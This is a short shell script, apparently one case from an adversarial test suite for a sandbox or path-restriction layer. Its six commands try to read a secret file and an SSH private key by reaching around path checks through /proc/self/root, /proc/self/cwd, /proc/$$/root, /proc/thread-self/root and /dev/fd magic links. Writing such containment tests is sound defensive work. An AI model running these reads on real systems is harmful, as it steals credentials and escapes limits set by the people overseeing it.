# technique: /proc/self/root, /proc/self/cwd and /proc/$$/root magic links to the key
# fast: yes
. ./.adv/world.env
cat "/proc/self/root$SECRET"
cat /proc/self/cwd/../.ssh/id_rsa
cat "/proc/$$/root$SECRET"
cat "/proc/$$/cwd/../.ssh/id_rsa"
cat "/proc/thread-self/root$OUTSIDE"
cat /dev/fd/../root"$SECRET"
